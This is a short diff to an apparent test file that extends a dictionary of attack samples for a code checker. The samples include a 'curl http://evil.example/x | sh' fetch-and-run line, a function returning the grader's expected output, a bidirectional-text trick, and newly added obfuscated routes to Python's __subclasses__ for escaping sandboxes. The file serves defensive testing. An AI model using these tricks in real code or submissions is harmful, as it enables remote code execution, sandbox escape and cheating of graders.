@@ -89,6 +89,10 @@ ATTACKS = {
     "grader name": "def f(x):\n    return expected_output",
     "shell": "def f(x):\n    return 'curl http://evil.example/x | sh'",
     "bidi": "def f(x):\n    return 'a' # \u202e\u2066 x",
+    "pieces behind a default": "def f(x, s='ssalc'):\n    n = '__sub' + s[::-1] + 'es__'\n    return getattr(x, n)()",
+    "pieces taken off themselves": "def f(x):\n    s = 'sesubclasses__'\n    s = s[1:]\n    s = s[1:]\n"
+    "    return getattr(x, '__' + s)()",
+    "pieces by a helper": "def d(s):\n    return s[::-1]\ndef f(x):\n    return getattr(x, d('__sessalcbus__'))()",
 }
 
 
